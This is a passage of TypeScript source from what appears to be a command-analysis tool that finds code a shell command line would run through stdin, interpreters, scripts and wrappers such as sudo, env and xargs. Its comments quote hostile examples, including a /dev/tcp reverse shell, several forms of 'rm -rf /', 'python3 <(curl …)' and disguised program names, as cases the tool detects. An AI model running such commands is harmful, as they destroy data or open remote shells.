  inner(src, r.label, { ...(r.cwd !== undefined ? { cwd: r.cwd } : {}), fresh });
}

type InnerFn = (src: string, label: string, opts?: { cwd?: string; fresh?: boolean; computed?: boolean }) => void;

const NETWORK_DEVICE = /^\/dev\/(tcp|udp)\//;

/** A shell with no script and no -c reads its program from stdin: a heredoc, a pipe, a file. */
function shellStdin(cmd: SimpleCommand, name: string, state: State, b: Budget, from: Inputs, inner: InnerFn, stdinInputs: SimpleCommand[]): void {
  // `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a network connection (a reverse shell).
  const net = cmd.redirects.find((r) => NETWORK_DEVICE.test(r.target));
  if (net !== undefined) {
    setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin', source: net.target, file: net.target }, []);
    return;
  }
  const s = cmd.stdin;
  if (s === undefined) return;
  switch (s.kind) {
    case 'heredoc':
    case 'herestring':
      setRuns(cmd, b, { kind: 'known-code', how: 'stdin', source: `${name} <<` }, from.words);
      inner(s.text, `${name} <<`);
      return;
    case 'pipe':
      if (s.text !== undefined) {
        // `echo 'rm -rf /' | sh`: the shell runs what the literal source printed.
        setRuns(cmd, b, { kind: 'known-code', how: 'stdin', source: `${s.from} | ${name}` }, stdinInputs);
        inner(s.text, `${s.from} | ${name}`);
      } else {
        setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin' }, stdinInputs);
      }
      return;
    case 'file':
      runScript(cmd, s.path, 'stdin', state, b, from);
      return;
  }
}

/** An interpreter's inline code (read for the shell commands it starts) or stdin code. */
function interpreter(cmd: SimpleCommand, state: State, b: Budget, from: Inputs, inner: InnerFn, stdinInputs: SimpleCommand[]): void {
  const ic = readInterpreter(cmd.program, cmd.argv);
  const known = (code: string, how: CodeHow, source: string, direct: readonly SimpleCommand[]): void => {
    if (ic.lang === undefined) {
      setRuns(cmd, b, { kind: 'known-code', how, source }, direct);
      return;
    }
    const inline = { lang: ic.lang, code };
    setRuns(cmd, b, { kind: 'known-code', how, source, inline }, direct);
    const p = oneLinerOf(inline);
    // `os.system('rm -rf /')`, `execSync(…)`, backticks: the shell commands it starts. A shell
    // string runs as `/bin/sh -c STRING` (what system(3) does), so an unknown one is a shell
    // running code warden cannot see; one the code computes entirely (`os.system(b64decode(…))`)
    // is the code's own output.
    for (const run of shellRuns(p, { home: state.vars.get('HOME') ?? b.home, cwd: cmd.cwd })) {
      if (b.commands >= LIMITS.maxCommands) break;
      const computed = run.text !== undefined ? wholeUnknown(run.text) : (run.argv ?? []).every((w) => wholeUnknown(w));
      inner(shellQuote(run.text !== undefined ? ['sh', '-c', run.text] : (run.argv ?? [])), `${cmd.program}: ${run.label}`, { computed });
    }
    if (p.truncated) bound(b, `interpreter code longer than ${MAX_CODE} characters or too complex to read`, MAX_CODE);
  };
  if (ic.code !== undefined) {
    if (wholeUnknown(ic.code)) setRuns(cmd, b, { kind: 'unknown-code', how: 'argument' }, from.words);
    else known(ic.code, 'argument', `${cmd.program} inline code`, from.words);
    return;
  }
  if (ic.script !== undefined && (isDynamic(ic.script) || NETWORK_DEVICE.test(ic.script))) {
    // `python3 <(curl …)`, `node "$F"`: a script warden cannot know. (A script on disk is not read:
    // only shell scripts are.)
    setRuns(cmd, b, { kind: 'unknown-code', how: 'script', ...(from.words.length === 0 ? { source: display(ic.script) } : {}), file: ic.script }, from.words);
    return;
  }
  const s = cmd.stdin;
  const readsStdin = ic.stdin || (ic.script !== undefined && STDIN_FILES.has(ic.script));
  if (!readsStdin || s === undefined) return;
  switch (s.kind) {
    case 'heredoc':
    case 'herestring':
      known(s.text, 'stdin', `${cmd.program} <<`, from.words);
      return;
    case 'pipe':
      if (s.text !== undefined) known(s.text, 'stdin', `${s.from} | ${cmd.program}`, stdinInputs);
      else setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin' }, stdinInputs);
      return;
    case 'file':
      // `python3 < script.py` is read no more than `python3 script.py`; a process substitution or a
      // network device is code from elsewhere.
      if (isDynamic(s.path) || NETWORK_DEVICE.test(s.path)) {
        setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin', ...(from.words.length === 0 ? { source: display(s.path) } : {}), file: s.path }, from.words);
      }
      return;
  }
}

const STDIN_FILES = new Set(['/dev/stdin', '/dev/fd/0', '/proc/self/fd/0']);

/**
 * A script a shell runs (`bash x.sh`: 'run'), sources ('source'), reads as stdin ('stdin') or the
 * command runs by path ('exec'): read from disk and analysed, or recorded as code warden cannot
 * read — a path it cannot know, a file that does not exist (yet), that this very command line
 * writes first, or that cannot be read.
 */
function runScript(cmd: SimpleCommand, word: string, mode: 'run' | 'source' | 'stdin' | 'exec', state: State, b: Budget, from: Inputs): void {
  const how: CodeHow = mode === 'stdin' ? 'stdin' : 'script';
  const label = mode === 'source' ? `source ${display(word)}` : mode === 'exec' ? display(word) : mode === 'stdin' ? `${cmd.program} < ${display(word)}` : `${cmd.program} ${display(word)}`;
  const unknown = (source: string | undefined, direct: readonly SimpleCommand[], file?: string): void =>
    setRuns(cmd, b, { kind: 'unknown-code', how, ...(source !== undefined ? { source } : {}), ...(file !== undefined ? { file } : {}) }, direct);
  if (isDynamic(word) || (!word.startsWith('/') && isDynamic(cmd.cwd))) {
    // `bash <(curl …)`, `source "$F"`, `./x.sh` after `cd "$X"`.
    unknown(from.words.length > 0 ? undefined : `${display(word)} (a path warden cannot know)`, from.words, word);
    return;
  }
  const file = path.posix.resolve(cmd.cwd, word);
  if (STDIN_FILES.has(file) && mode !== 'stdin' && mode !== 'exec') {
    // `bash /dev/stdin`, `source /dev/stdin`: the program comes from stdin after all.
    const stdinInputs = from.upstream === undefined ? from.words : [from.upstream, ...from.words];
    if (cmd.stdin?.kind === 'pipe' && cmd.stdin.text === undefined) unknown(undefined, stdinInputs);
    else if (cmd.stdin?.kind === 'pipe' || cmd.stdin?.kind === 'heredoc' || cmd.stdin?.kind === 'herestring') {
      setRuns(cmd, b, { kind: 'known-code', how: 'stdin', source: label }, stdinInputs);
      b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: clip(cmd.stdin.text ?? '') });
      walk(cmd.stdin.text ?? '', mode === 'source' ? state : freshState(cmd.cwd, state), [...cmd.via, label], cmd.depth + 1, b);
    }
    return;
  }
  if (NETWORK_DEVICE.test(file)) {
    unknown(file, [], file);
    return;
  }
  if (isSystemPath(file)) return;
  const written = b.written.get(file);
  if (written !== undefined) {
    // Written earlier in this command line: what is on disk now is not what runs. Literal content
    // (`cat > x.sh <<EOF`) is analysed; anything else is unknown.
    if (written.text === undefined || wholeUnknown(written.text)) {
      unknown(`${display(word)}, written by \`${written.cmd.text}\` earlier in this command`, [written.cmd], file);
      return;
    }
    setRuns(cmd, b, { kind: 'known-code', how, source: `${label}, written by \`${written.cmd.text}\``, file }, [written.cmd]);
    b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: clip(written.text) });
    walk(written.text, mode === 'source' ? state : freshState(cmd.cwd, state), [...cmd.via, label], cmd.depth + 1, b);
    return;
  }
  if (b.scripts >= LIMITS.maxScripts) {
    bound(b, 'too many scripts to read', LIMITS.maxScripts);
    return;
  }
  b.scripts++;
  const r = readScript(file);
  switch (r.kind) {
    case 'missing':
      setRuns(cmd, b, { kind: 'unknown-code', how, source: `${display(word)} (does not exist)`, file, missing: { after: [...new Set(b.writers)] } }, []);
      return;
    case 'unreadable':
      unknown(`${display(word)} (cannot be read)`, [], file);
      return;
    case 'not-a-file':
      unknown(`${display(word)} (not a regular file)`, [], file);
      return;
    case 'too-large':
      bound(b, `script larger than ${LIMITS.maxScript} bytes`, LIMITS.maxScript);
      return;
    case 'binary':
      return;
    case 'text': {
      // Run by path, a script for another interpreter (`#!/usr/bin/env python3`) is not read.
      const interp = mode === 'exec' ? shebangProgram(r.text) : undefined;
      if (interp !== undefined && !SHELLS.has(interp)) return;
      setRuns(cmd, b, { kind: 'known-code', how, source: label, file }, []);
      // The trace names the file, not its text (a sourced `.env` holds secrets).
      b.trace.push({ kind: 'unwrap', depth: cmd.depth + 1, wrapper: label, text: `script ${file} (${r.text.length} characters)` });
      const st = mode === 'source' ? state : freshState(cmd.cwd, state);
      walk(r.text, st, [...cmd.via, label], cmd.depth + 1, b);
      return;
    }
  }
}

/** `sh -n …`, `bash -xn …`, `-o noexec`: the shell only parses. */
function noExec(args: readonly string[]): boolean {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '-o' || a === '+o') {
      if (a === '-o' && args[i + 1] === 'noexec') return true;
      i++;
      continue;
    }
    if (a === '--' || a === '-' || !a.startsWith('-')) return false;
    if (a.startsWith('--')) continue;
    if (a.includes('n')) return true;
    // `-c`: the next word is the code, not an option.
    if (a.includes('c')) return false;
  }
  return false;
}

/** `bash x.sh`, `sh -e -- x.sh`: the script argument, unless the shell reads stdin (`-s`, `-`). */
function shellScriptArg(args: string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '--') return args[i + 1];
    if (a === '-' || /^-[a-zA-Z]*s[a-zA-Z]*$/.test(a)) return undefined;
    if (a.startsWith('-') || a.startsWith('+')) {
      if (a === '-o' || a === '+o' || a === '-O' || a === '+O' || a === '--rcfile' || a === '--init-file') i++;
      continue;
    }
    return a;
  }
  return undefined;
}

function suCommand(args: string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '-c' || a === '--command') return args[i + 1];
    if (a.startsWith('--command=')) return a.slice('--command='.length);
    if (/^-[a-zA-Z]*c$/.test(a) && !a.startsWith('--')) return args[i + 1];
  }
  return undefined;
}

const FIND_EXEC = new Set(['-exec', '-execdir', '-ok', '-okdir']);

/** The commands of a find's `-exec`/`-execdir`/`-ok`/`-okdir` actions, `{}` made unknown. */
function findExecs(args: string[]): { action: string; argv: string[] }[] {
  const roots: string[] = [];
  let i = 0;
  while (i < args.length && !/^[-(!]/.test(args[i] as string)) roots.push(args[i++] as string);
  // One root: matches are below it (`-execdir` runs next to the match, which is below it too).
  const root = roots.length === 1 ? (roots[0] as string) : roots.length === 0 ? '.' : UNKNOWN;
  const match = root === UNKNOWN ? UNKNOWN : `${root.replace(/\/+$/, '')}/${UNKNOWN}`;
  const out: { action: string; argv: string[] }[] = [];
  for (; i < args.length; i++) {
    const action = args[i] as string;
    if (!FIND_EXEC.has(action)) continue;
    const argv: string[] = [];
    for (i++; i < args.length && args[i] !== ';' && args[i] !== '+'; i++) argv.push((args[i] as string).split('{}').join(match));
    if (argv.length > 0) out.push({ action, argv });
  }
  return out;
}

/** `bash -c 'cmd'`, `bash -lc 'cmd'`, `sh -ec 'cmd'`: the argument after the first flag group containing c. */
function shellCommandArg(args: string[]): string | undefined {
  for (let i = 0; i < args.length; i++) {
    const a = args[i] as string;
    if (a === '--') return undefined;
    // `bash -c -- 'cmd'`: the `--` ends the options; the command is the word after it.
    if (/^-[a-zA-Z]*c[a-zA-Z]*$/.test(a)) return args[i + 1] === '--' ? args[i + 2] : args[i + 1];
    if (a.startsWith('-') || a.startsWith('+')) {
      if (a === '-o' || a === '+o' || a === '-O' || a === '+O') i++;
      continue;
    }
    return undefined;
  }
  return undefined;
}

// ---------------------------------------------------------------------------------------------
// Wrappers: programs that run their arguments as a command. Each entry says which of its flags
// take a value, and how its command starts.

interface Wrapper {
  /** Flags that take a value: the next word, or the rest of a short group (`-uroot`, `-Eu root`). */
  valueFlags: ReadonlySet<string>;
  /** Positional words before the command (timeout's DURATION). */
  positionals?: number;
  /** `env`, `sudo`: NAME=value words before the command. */
  assignments?: boolean;
  /** Arguments that mean "do not run anything" (`command -v`). */
  noRun?: ReadonlySet<string>;
  /** Value flags naming the directory the command runs in (`env -C dir`, `sudo -D dir`). */
  chdir?: ReadonlySet<string>;
  /** Value flags whose value is split into the command's first words (`env -S 'rm -rf /'`). */
  split?: ReadonlySet<string>;
  /**
   * xargs: the command gets more operands from stdin. `replace` flags name the placeholder the
   * input is put in (`-I {}`); `replaceDefault` flags use `{}` unless a value is attached (`-i`).
   */
  input?: { replace: ReadonlySet<string>; replaceDefault: ReadonlySet<string> };
}

const set = (...xs: string[]): ReadonlySet<string> => new Set(xs);

export const WRAPPERS: Readonly<Record<string, Wrapper>> = {
  sudo: {
    valueFlags: set('-u', '--user', '-g', '--group', '-C', '--close-from', '-h', '--host', '-p', '--prompt', '-r', '--role', '-t', '--type', '-U', '--other-user', '-D', '--chdir', '-T', '--command-timeout'),
    noRun: set('-l', '--list', '-v', '--validate', '-k', '-K', '-e', '--edit', '-V'),
    chdir: set('-D', '--chdir'),
    // `sudo VAR=value cmd` sets VAR for cmd (it used to hide cmd: `sudo X=1 rm -rf /`).
    assignments: true,
  },
  doas: { valueFlags: set('-u', '-C') },
  env: { valueFlags: set('-u', '--unset', '-C', '--chdir', '-S', '--split-string'), assignments: true, chdir: set('-C', '--chdir'), split: set('-S', '--split-string') },
  nice: { valueFlags: set('-n', '--adjustment') },
  nohup: { valueFlags: set() },
  time: { valueFlags: set('-f', '--format', '-o', '--output') },
  timeout: { valueFlags: set('-s', '--signal', '-k', '--kill-after'), positionals: 1 },
  stdbuf: { valueFlags: set('-i', '-o', '-e', '--input', '--output', '--error') },
  ionice: { valueFlags: set('-c', '--class', '-n', '--classdata', '-p', '--pid', '-P', '--pgid', '-u', '--uid') },
  chrt: { valueFlags: set(), positionals: 1 },
  taskset: { valueFlags: set(), positionals: 1 },
  command: { valueFlags: set(), noRun: set('-v', '-V') },
  builtin: { valueFlags: set() },
  exec: { valueFlags: set('-a') },
  setsid: { valueFlags: set() },
  unbuffer: { valueFlags: set() },
  caffeinate: { valueFlags: set('-t', '-w') },
  // `busybox rm -rf /`, `busybox sh -c …`: the applet is the command.
  busybox: { valueFlags: set(), noRun: set('--list', '--list-full', '--install', '--help') },
  pkexec: { valueFlags: set('--user') },
  xargs: {
    valueFlags: set('-a', '--arg-file', '-d', '--delimiter', '-E', '-I', '-L', '--max-lines', '-n', '--max-args', '-P', '--max-procs', '-s', '--max-chars', '--process-slot-var'),
    input: { replace: set('-I'), replaceDefault: set('-i', '--replace') },
  },
};

/** One option word of a wrapper: the flag it sets, its value if it takes one, words consumed. */
function readOption(w: Wrapper, words: readonly string[], i: number): { flag: string; value?: string; used: number } {
  const a = words[i] as string;
  if (a.startsWith('--')) {
    const eq = a.indexOf('=');
    if (eq !== -1) return { flag: a.slice(0, eq), value: a.slice(eq + 1), used: 1 };
    if (w.valueFlags.has(a)) return words[i + 1] === undefined ? { flag: a, used: 1 } : { flag: a, value: words[i + 1], used: 2 };
    return { flag: a, used: 1 };
  }
  // A short group, read as getopt does: the first flag taking a value takes the rest of the group,
  // or the next word. `-i`-style optional values only come attached.
  for (let j = 1; j < a.length; j++) {
    const flag = `-${a[j] as string}`;
    const optional = w.input?.replaceDefault.has(flag) === true;
    if (w.valueFlags.has(flag) || optional) {
      if (j < a.length - 1) return { flag, value: a.slice(j + 1), used: 1 };
      if (optional) return { flag, used: 1 };
      return words[i + 1] === undefined ? { flag, used: 1 } : { flag, value: words[i + 1], used: 2 };
    }
  }
  return { flag: a, used: 1 };
}

/** Words of an `env -S` string: split as the shell would, expansions unknown. */
function splitString(value: string): string[] {
  try {
    return shellParse(value, () => UNKNOWN).map((t) => (typeof t === 'string' ? t : 'pattern' in t ? t.pattern : 'op' in t ? t.op : ''));
  } catch {
    return [UNKNOWN];
  }
}

/**
 * Strips wrappers off argv (recording them in `chain`), returning the wrapped command's argv and
 * the directory it runs in.
 */
function unwrap(argv: string[], cwd: string, chain: string[], b: Budget, depth: number, env: Env, disguised: DisguisedWord[]): { argv: string[]; cwd: string } {
  let cur = argv;
  let dir = cwd;
  for (let guard = 0; cur.length > 0; guard++) {
    if (guard === LIMITS.maxWrappers) {
      // `sudo env nice timeout 5 …` a thousand times: what runs in the end is not looked at.
      if (WRAPPERS[programName(undisguise(cur[0] as string)?.as ?? (cur[0] as string))] !== undefined) bound(b, 'too many nested wrappers', LIMITS.maxWrappers);
      break;
    }
    // `r\u200bm`, `ｒｍ`, `rм`: the program (or wrapper) is read as the name it passes for.
    const d = undisguise(cur[0] as string);
    if (d !== undefined) {
      disguised.push({ ...d, program: true });
      cur = [...programWords(d), ...cur.slice(1)];
      b.trace.push({ kind: 'unwrap', depth, wrapper: 'disguised name', text: `${visible(display(d.word))} read as ${display(d.as)}` });
      if (cur.length === 0) break;
    }
    const name = programName(cur[0] as string);
    const w = WRAPPERS[name];
    if (!w) break;
    let i = 1;
    let positionals = w.positionals ?? 0;
    let stop = false;
    let placeholder: string | undefined;
    while (i < cur.length) {
      const a = cur[i] as string;
      if (a === '--') {
        i++;
        break;
      }
      if (w.noRun?.has(a)) {
        stop = true;
        break;
      }
      if (a === '-' && name === 'env') {
        env.cleared = true;
        i++;
        continue;
      }
      if (a.startsWith('-') && a.length > 1) {
        const o = readOption(w, cur, i);
        if (o.value !== undefined && w.chdir?.has(o.flag)) {
          dir = isDynamic(o.value) || isDynamic(dir) ? UNKNOWN : path.posix.resolve(dir, o.value);
        }
        if (o.value !== undefined && w.split?.has(o.flag)) {
          // `env -S 'a b' c`: as if `env a b c` had been written.
          cur = [cur[0] as string, ...splitString(o.value), ...cur.slice(i + o.used)];
          continue;
        }
        if (name === 'env') {
          if (o.flag === '-i' || o.flag === '--ignore-environment' || /^-[a-zA-Z]*i/.test(a)) env.cleared = true;
          if ((o.flag === '-u' || o.flag === '--unset') && o.value !== undefined) env.unset.push(o.value);
        }
        if (w.input?.replace.has(o.flag) && o.value !== undefined) placeholder = o.value;
        if (w.input?.replaceDefault.has(o.flag)) placeholder = o.value ?? '{}';
        i += o.used;
        continue;
      }
      const m = w.assignments ? ASSIGN.exec(a) : null;
      if (m) {
        env.assigned.push([m[1] as string, m[2] as string]);
        i++;
        continue;
      }
      if (positionals > 0) {
        positionals--;
        i++;
        continue;
      }
      break;
    }
    if (stop || i >= cur.length) break;
    chain.push(name);
    cur = cur.slice(i);
    if (w.input) {
      // The operands come from stdin: unknown, in the placeholder or after the given arguments.
      const ph = placeholder;
      cur = ph === undefined || ph === '' ? [...cur, UNKNOWN] : cur.map((x, k) => (k === 0 ? x : x.split(ph).join(UNKNOWN)));
    }
    b.trace.push({ kind: 'unwrap', depth, wrapper: name, text: cur.slice(0, 64).map(display).join(' ') });
  }
  return { argv: cur, cwd: dir };
}
